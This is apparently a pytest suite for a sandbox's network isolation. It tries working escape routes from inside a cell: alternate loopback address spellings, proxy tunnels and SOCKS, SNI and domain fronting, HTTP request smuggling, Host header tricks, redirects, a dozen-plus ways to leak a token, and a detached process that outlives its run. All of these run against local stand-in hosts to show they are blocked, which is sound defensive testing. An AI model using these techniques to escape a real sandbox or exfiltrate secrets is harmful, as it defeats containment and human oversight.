"""Ways out of a cell that names one host, tried from inside.

Each is first made by an ordinary process, where it must succeed: what never works proves nothing.
"""

from __future__ import annotations

import dataclasses
import json
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from naive_proxy import NaiveProxy
from network_stage import AUTHORITY, PROXY_AUTHORITY, Host

from pace import SLOW
from redoma import Executor, Secret, Status

SPELLINGS = ("127.0.0.1", "2130706433", "0177.0.0.1", "0x7f000001", "0x7f.1", "127.1", "017700000001")
"""One address, as the C library reads it."""
V6_SPELLINGS = ("::1", "0:0:0:0:0:0:0:1", "::ffff:127.0.0.1", "::ffff:7f00:1")


class Target:
    """A service of this machine, by TCP, by UDP and at an abstract address, that answers whatever it is sent: a name
    server would."""

    def __init__(self) -> None:
        self._sockets = [socket.socket(socket.AF_INET6, kind) for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM)]
        tcp, udp = self._sockets
        for one in self._sockets:
            one.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
            one.settimeout(0.1)
        tcp.bind(("::", 0))
        self.port: int = tcp.getsockname()[1]
        udp.bind(("::", self.port))
        abstract = socket.socket(socket.AF_UNIX)
        abstract.settimeout(0.1)
        abstract.bind(f"\0redoma-test-{self.port}")
        self._sockets.append(abstract)
        for one in (tcp, abstract):
            one.listen(64)
        self.heard, self._over = 0, threading.Event()
        self._threads = [threading.Thread(target=self._stream, args=(one,)) for one in (tcp, abstract)]
        self._threads.append(threading.Thread(target=self._udp))
        for thread in self._threads:
            thread.start()

    def _stream(self, listener: socket.socket) -> None:
        while not self._over.is_set():
            try:
                connection, _ = listener.accept()
            except TimeoutError:
                continue
            with connection:
                self.heard += 1
                connection.settimeout(60)
                connection.recv(1000)
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\nConnection: close\r\n\r\nanswered")

    def _udp(self) -> None:
        while not self._over.is_set():
            try:
                _, address = self._sockets[1].recvfrom(1000)
            except TimeoutError:
                continue
            self.heard += 1
            self._sockets[1].sendto(b"answered", address)

    def close(self) -> None:
        self._over.set()
        for thread in self._threads:
            thread.join()
        for one in self._sockets:
            one.close()


@pytest.fixture
def target() -> Iterator[Target]:
    found = Target()
    yield found
    found.close()


def own_address() -> str:
    """An address of this machine that is not of its loopback, if it has one. Nothing is sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
        except OSError:
            return "127.0.0.1"
        return str(probe.getsockname()[0])


DIRECT = """
import json, socket, sys
port, addresses = int(sys.argv[1]), sys.argv[2:]
found = {}
def tried(name, attempt):
    try:
        found[name] = b"answered" in attempt()
    except OSError:
        found[name] = False
def tcp(address):
    with socket.create_connection((address, port), 25) as there:
        there.sendall(b"GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        return there.recv(1000)
def udp(address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as there:
        there.settimeout(25)
        there.connect((address, port))  # then the kernel tells that nobody listens there
        query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\x00" * 6 + b"\\x03api\\x04test\\x00\\x00\\x01\\x00\\x01"
        there.send(query)
        return there.recv(1000)
def abstract():
    with socket.socket(socket.AF_UNIX) as there:
        there.settimeout(25)
        there.connect(f"\\0redoma-test-{port}")
        there.sendall(b"x")
        return there.recv(1000)
tried("abstract", abstract)
for address in addresses:
    tried("tcp " + address, lambda: tcp(address))
    tried("dns " + address, lambda: udp(address))
print(json.dumps(found))
"""


def test_no_address_of_this_machine_is_reached_from_a_cell(jail: Executor, target: Target) -> None:
    """By TCP, and by UDP as a question to a name server, in every spelling that the C library takes; and by an abstract
    socket."""
    addresses = [*SPELLINGS, *V6_SPELLINGS, own_address()]
    done = subprocess.run(
        [sys.executable, "-c", DIRECT, str(target.port), *addresses],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    control = json.loads(done.stdout)
    assert [way for way, went in control.items() if not went] == [], "each works without the cell"
    heard = target.heard
    result = jail.run(DIRECT, args=[str(target.port), *addresses], network=["api.test"], policy="none", timeout=60)
    assert result.status is Status.OK, result.stderr
    assert json.loads(result.stdout) == dict.fromkeys(control, False)
    assert target.heard == heard


BY_PROXY = """
import json, socket, struct, sys
port, hosts = int(sys.argv[1]), sys.argv[2:]
def talk(*pieces):
    got = b""
    with socket.create_connection(("127.0.0.1", 3128), 10) as there:
        there.settimeout(10)
        for piece in pieces:
            there.sendall(piece)
            got += there.recv(1000)
        while more := there.recv(1000):
            got += more
    return got
found = {}
def tried(name, *pieces):
    try:
        found[name] = b"answered" in talk(*pieces)
    except OSError:
        found[name] = False
for host in hosts:
    there = ("[%s]:%d" if ":" in host else "%s:%d") % (host, port)
    request = f"GET / HTTP/1.1\\r\\nHost: {there}\\r\\nConnection: close\\r\\n\\r\\n".encode()
    tried("get " + host, f"GET http://{there}/ HTTP/1.1\\r\\nHost: {there}\\r\\nConnection: close\\r\\n\\r\\n".encode())
    tried("connect " + host, f"CONNECT {there} HTTP/1.1\\r\\nHost: {there}\\r\\n\\r\\n".encode(), request)
    name = host.encode()
    tried("socks " + host, b"\\5\\1\\0", b"\\5\\1\\0\\3" + bytes([len(name)]) + name + struct.pack(">H", port), request)
print(json.dumps(found))
"""


def test_no_spelling_of_an_address_gets_through_the_proxy_from_a_cell(jail: Executor, target: Target) -> None:
    """As a request, as a tunnel, and by SOCKS. The control is the same code with a rule for the address."""
    hosts = [*SPELLINGS, "::1", "0:0:0:0:0:0:0:1"]
    named = [f"127.0.0.1:{target.port}", f"[::1]:{target.port}"]
    control = jail.run(BY_PROXY, args=[str(target.port), *hosts], network=named, policy="none", timeout=60)
    assert control.status is Status.OK, control.stderr
    went = json.loads(control.stdout)
    assert all(went[f"get {host}"] for host in hosts), went
    assert all(any(went[f"{way} {host}"] for host in hosts) for way in ("get", "socks")), went
    heard = target.heard
    result = jail.run(BY_PROXY, args=[str(target.port), *hosts], network=["api.test"], policy="none", timeout=60)
    assert result.status is Status.OK, result.stderr
    assert json.loads(result.stdout) == dict.fromkeys(went, False)
    assert target.heard == heard
    assert {one.decision for one in result.network} == {"denied"}
    assert {one.host for one in result.network} == {"127.0.0.1", "::1"}, "told as what they are, however spelt"


def test_an_address_of_ipv4_inside_of_one_of_ipv6_gets_nobody_through_the_proxy(jail: Executor, target: Target) -> None:
    """By the C library it is the same place: see the control above."""
    mapped = ["::ffff:127.0.0.1", "::ffff:7f00:1"]
    result = jail.run(BY_PROXY, args=[str(target.port), *mapped], network=["api.test"], policy="none")
    assert set(json.loads(result.stdout).values()) == {False}
    assert target.heard == 0


def test_the_host_that_is_named_is_reached_meanwhile(jail: Executor, api: Host) -> None:
    """The control of all of this: a cell that names a host does have a way to that."""
    code = f"import urllib.request; urllib.request.urlopen('https://{api.url}/x').status"
    assert jail.run(code, network=[f"GET {api.rule}"], policy="none").value == 200


# --- a request that is for another host, or for more, than the rule says ---

TOOLS = """
import http.client, os, socket, ssl, sys, urllib.request
proxy, front, secure, hidden, relay = map(int, sys.argv[1:6])
def talk(*pieces, wait=True):
    got = b""
    with socket.create_connection(("127.0.0.1", proxy), 25) as there:
        for number, piece in enumerate(pieces):
            there.sendall(piece)
            if number + 1 < len(pieces) and wait:
                got += there.recv(65536)
        there.shutdown(socket.SHUT_WR)
        while more := there.recv(65536):
            got += more
    return got
def tunnel(host, port):
    return f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode()
def get(target, host, *more, method="GET", body=""):
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", *more]
    return "\\r\\n".join([*lines, "", body]).encode()
def secured(name, request, step=1 << 16):
    # TLS for `name` in a tunnel to front.test, whose certificate is nothing to an attacker.
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("127.0.0.1", proxy), 25) as there:
        there.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        there.sendall(tunnel("front.test", secure))
        there.recv(65536)
        incoming, out = ssl.MemoryBIO(), ssl.MemoryBIO()
        tls = context.wrap_bio(incoming, out, server_hostname=name)
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = out.read()
                for place in range(0, len(data), step):
                    there.sendall(data[place : place + step])
                if not (data := there.recv(65536)):
                    return
                incoming.write(data)
        tls.write(request)
        there.sendall(out.read())
        incoming.write(there.recv(65536))
close = "Connection: close"
"""

HIDDEN = 'inner = get("/hidden", f"front.test:{front}", close).decode()\n'


@dataclasses.dataclass(frozen=True)
class Detour:
    """A way around a rule, with the rule. `{front}` and the like stand for the ports of hosts."""

    name: str
    rules: tuple[str, ...]
    code: str


OPEN = "GET,POST front.test:{front}=127.0.0.1/open"
WHOLE = "front.test:{front}=127.0.0.1"
RELAY = "relay.test:{relay}=127.0.0.1"
DETOURS = [
    Detour(
        "TLS for another host than that of the CONNECT",
        ("front.test:{secure}=127.0.0.1",),
        'secured("hidden.test", get("/x", "hidden.test", close))',
    ),
    Detour(
        "the same, a byte at a time",
        ("front.test:{secure}=127.0.0.1",),
        'secured("hidden.test", get("/x", "hidden.test", close), step=1)',
    ),
    Detour(
        "domain fronting",
        ("GET front.test:{secure}=127.0.0.1",),
        'secured("front.test", get("/x", "hidden.test", close))',
    ),
    Detour(
        "CONNECT to another port of the host",
        (WHOLE,),
        'talk(tunnel("front.test", hidden), get("/x", "front.test", close))',
    ),
    Detour(
        "a tunnel through a proxy that is allowed",
        (RELAY,),
        'talk(tunnel("relay.test", relay), tunnel("hidden.test", hidden), get("/x", "hidden.test", close))',
    ),
    Detour(
        "the same, in two pieces",
        (RELAY,),
        'one = tunnel("hidden.test", hidden)\n'
        'talk(tunnel("relay.test", relay) + one[:3], one[3:], get("/x", "hidden.test", close))',
    ),
    Detour(
        "the same, where requests are read",
        (f"GET {RELAY}",),
        'talk(tunnel("relay.test", relay), tunnel("hidden.test", hidden), get("/x", "hidden.test", close))',
    ),
    Detour(
        "a URL of another host, to a proxy that is allowed",
        (RELAY,),
        'url = f"http://hidden.test:{hidden}/x"\ntalk(tunnel("relay.test", relay), get(url, "hidden.test", close))',
    ),
    Detour(
        "Content-Length and Transfer-Encoding",
        (OPEN,),
        HIDDEN + 'body = "0\\r\\n\\r\\n" + inner\n'
        'length = f"Content-Length: {len(body)}"\n'
        'talk(get(f"http://front.test:{front}/open", f"front.test:{front}", length, "Transfer-Encoding: chunked",'
        ' method="POST", body=body))',
    ),
    Detour(
        "two lengths",
        (OPEN,),
        HIDDEN + 'length = f"Content-Length: {len(inner)}"\n'
        'talk(get(f"http://front.test:{front}/open", f"front.test:{front}", "Content-Length: 0", length,'
        ' method="POST", body=inner))',
    ),
    Detour(
        "a second request behind one that is allowed",
        (OPEN,),
        HIDDEN + 'talk(get(f"http://front.test:{front}/open", f"front.test:{front}") + inner.encode())',
    ),
    Detour(
        "a URL and a Host that disagree",
        (WHOLE,),
        'talk(get(f"http://front.test:{front}/x", "hidden.test", close))',
    ),
    Detour(
        "two Hosts",
        (WHOLE,),
        'talk(get(f"http://front.test:{front}/x", f"front.test:{front}", "Host: hidden.test", close))',
    ),
    Detour(
        "a redirect to another host",
        (WHOLE,),
        'urllib.request.install_opener(urllib.request.build_opener(urllib.request.ProxyHandler('
        '{"http": f"http://127.0.0.1:{proxy}"})))\n'
        'urllib.request.urlopen(f"http://front.test:{front}/to?http%3A//hidden.test:{hidden}/x").read()',
    ),
]  # fmt: skip


class Stage:
    """front.test with and without TLS, hidden.test, and a proxy that lets everything through, relay.test."""

    def __init__(self) -> None:
        self.front, self.secure = Host("front.test"), Host("front.test", tls=AUTHORITY)
        self.hidden, self.relay = Host("hidden.test"), NaiveProxy(None)
        self.ports = {name: getattr(self, name).port for name in ("front", "secure", "hidden", "relay")}

    def close(self) -> None:
        for each in (self.relay, self.front, self.secure, self.hidden):
            each.close()

    def breached(self) -> bool:
        """Whether something was reached that no rule names since this was asked last."""
        seen = [*self.front.seen, *self.secure.seen]
        found = bool(self.hidden.seen) or any(
            one["headers"].get("host") == "hidden.test" or one["path"] == "/hidden" for one in seen
        )
        for host in (self.front, self.secure, self.hidden):
            host.seen.clear()
        return found


@pytest.fixture(scope="module")
def stage() -> Iterator[Stage]:
    found = Stage()
    yield found
    found.close()


def outside(code: str, *arguments: object, **variables: str) -> subprocess.CompletedProcess[str]:
    """Run code in an ordinary process."""
    command = [sys.executable, "-c", code, *map(str, arguments)]
    return subprocess.run(
        command, capture_output=True, text=True, check=False, timeout=120, env={**os.environ, **variables}
    )


@pytest.mark.parametrize("detour", DETOURS, ids=lambda each: each.name)
def test_no_detour_leads_to_what_no_rule_names(jail: Executor, trusted: None, stage: Stage, detour: Detour) -> None:
    """The control is the same code and a proxy that compares names only, in an ordinary process."""
    code, ports = TOOLS + detour.code, list(stage.ports.values())
    # A redirect is refused by comparing names: without the rule is without the comparison.
    allowed = None if "redirect" in detour.name else ("front.test", "relay.test")
    naive = NaiveProxy(allowed)
    try:
        control = outside(code, naive.port, *ports)
    finally:
        naive.close()
    assert stage.breached(), f"it works without the rule: {control.stderr}"
    rules = [rule.format(**stage.ports) for rule in detour.rules]
    result = jail.run(code, args=[str(port) for port in (3128, *ports)], network=rules, policy="none")
    assert not stage.breached(), result
    assert "denied" in [one.decision for one in result.network], result


# --- the value of a secret, got out of the proxy or sent elsewhere ---

VALUE = "ghpr34lV4lueOfTheToken"
PLACEHOLDER = f"{'placeholder':x<{len(VALUE)}}"
"""Of the control: as long as the value, so that lengths stay true."""
HOLDS_TOKEN = """
import http.client, os, socket, ssl, sys
proxy, api, other = map(int, sys.argv[1:4])
token = os.environ["TOKEN"]
def ask(host, path, method="GET", body=None, **headers):
    # All that comes back, as it is on the wire, without the framing of chunks.
    ports = {"api.test": api, "other.test": other}
    with socket.create_connection(("127.0.0.1", proxy), 25) as there:
        there.sendall(f"CONNECT {host}:{ports[host]} HTTP/1.1\\r\\nHost: {host}:{ports[host]}\\r\\n\\r\\n".encode())
        there.recv(65536)
        with ssl.create_default_context().wrap_socket(there, server_hostname=host) as tls:
            lines = [f"{method} {path} HTTP/1.1", f"Host: {host}:{ports[host]}", "Connection: close"]
            lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
            lines += [f"Content-Length: {len(body)}"] if body else []
            tls.sendall("\\r\\n".join([*lines, "", body or ""]).encode())
            got = b""
            while more := tls.recv(65536):
                got += more
    print(got.replace(b"\\r\\n1\\r\\n", b"").decode("latin-1"))
    return got.decode("latin-1")
"""
LEAKS = {
    "by the path of a request": 'ask("api.test", f"/{token}")',
    "by a query": 'ask("api.test", f"/x?{token}")',
    "by a body": 'ask("api.test", "/x", "POST", token)',
    "by the name of a header": 'ask("api.test", "/x", **{token: "1"})',
    "by a header to another host": 'ask("other.test", "/x", Authorization=token)',
    "by a body to another host": 'ask("other.test", "/x", "POST", token)',
    "by a host that echoes headers": 'ask("api.test", "/echo", Authorization=token)',
    "by a header of the answer": 'ask("api.test", "/header", Authorization=token)',
    "by the name of a header of the answer": 'ask("api.test", "/name", Authorization=token)',
    "by an answer in pieces": 'ask("api.test", "/pieces", Authorization=token)',
    "by a trailer of the answer": 'ask("api.test", "/trailer", Authorization=token)',
    "by the status of an answer": 'ask("api.test", "/broken-status", Authorization=token)',
    "by a header that is none": 'ask("api.test", "/broken-header", Authorization=token)',
    "by the length of a chunk": 'ask("api.test", "/broken-chunk", Authorization=token)',
    "by an answer before the answer": 'ask("api.test", "/hints", Authorization=token)',
    "by a method that asks for an echo": 'ask("api.test", "/x", "TRACE", Authorization=token)',
    "by a compressed answer": """
import zlib
body = ask("api.test", "/zipped", Authorization=token).partition("\\r\\n\\r\\n")[2]
print(zlib.decompress(body.encode("latin-1"), 31))""",
    "by a redirect that has it": """
place = ask("api.test", f"/carry?https://other.test:{other}/", Authorization=token).partition("Location: ")[2]
ask("other.test", "/" + place.split()[0].rpartition("/")[2])""",
    "by following a redirect with it": """
ask("api.test", f"/to?https%3A//other.test:{other}/x", Authorization=token)
ask("other.test", "/x", Authorization=token)""",
}


class Keepers:
    """api.test, which a secret belongs to, and other.test, which it does not."""

    def __init__(self) -> None:
        self.api, self.other = Host("api.test", tls=AUTHORITY), Host("other.test", tls=AUTHORITY)

    def close(self) -> None:
        self.api.close()
        self.other.close()

    def leaked(self, told: str) -> bool:
        """Whether the value is in what the guest has, or has reached the other host, or is where a log has it."""
        places = [told, repr(self.other.seen), *(one["path"] + one["body"] for one in self.api.seen)]
        self.api.seen.clear()
        self.other.seen.clear()
        return any(VALUE.lower() in place.lower() for place in places)


@pytest.fixture(scope="module")
def keepers() -> Iterator[Keepers]:
    found = Keepers()
    yield found
    found.close()


@pytest.mark.parametrize("way", LEAKS)
def test_a_secret_gets_nowhere_but_to_its_host(
    jail: Executor, trusted: None, tmp_path: Path, keepers: Keepers, way: str
) -> None:
    """The control is the same code and a proxy that replaces placeholders wherever they stand."""
    code, ports = HOLDS_TOKEN + LEAKS[way], (keepers.api.port, keepers.other.port)
    (tmp_path / "guest.pem").write_bytes(PROXY_AUTHORITY.certificate)
    naive = NaiveProxy(None, {PLACEHOLDER: VALUE})
    try:
        trust = str(tmp_path / "guest.pem")
        control = outside(code, naive.port, *ports, TOKEN=PLACEHOLDER, SSL_CERT_FILE=trust)
    finally:
        naive.close()
    assert keepers.leaked(control.stdout), f"it works without the rule: {control.stderr}"
    result = jail.run(
        code,
        args=[str(port) for port in (3128, *ports)],
        network=[keepers.api.rule, f"GET,POST {keepers.other.rule}"],
        secrets={"TOKEN": Secret(VALUE, hosts=("api.test",))},
        policy="none",
    )
    assert result.network, result
    assert not keepers.leaked(f"{result.stdout} {result.stderr} {result.network}"), result


# --- a process that outlives its run ---


def eventually(happens: Callable[[], bool], seconds: float = 30.0) -> bool:
    end = time.monotonic() + seconds * SLOW
    while not (did := happens()) and time.monotonic() < end:
        time.sleep(0.01)
    return did


LATE = """
import os, socket, sys, time
if os.fork() == 0:
    os.setsid()
    os.close(1), os.close(2)
    for _ in range(400):
        time.sleep(0.05)
        with socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5) as there:
            there.sendall(f"GET http://{sys.argv[2]}/late HTTP/1.1\\r\\nHost: {sys.argv[2]}\\r\\n\\r\\n".encode())
            there.recv(1000)
"""


def test_a_process_that_outlives_its_rule_reaches_nothing(jail: Executor, stage: Stage) -> None:
    """The control leaves the same process behind, on this machine and with a proxy that goes on."""
    naive = NaiveProxy(None)
    try:
        outside(LATE, naive.port, stage.front.url)
        assert eventually(lambda: len(stage.front.seen) > 2)
    finally:
        naive.close()
    stage.front.seen.clear()
    assert jail.run(LATE, args=["3128", stage.front.url], network=[stage.front.rule], policy="none").status is Status.OK
    time.sleep(0.2)  # what had left the cell by then may still arrive
    seen = len(stage.front.seen)
    assert not eventually(lambda: len(stage.front.seen) > seen, seconds=0.5)
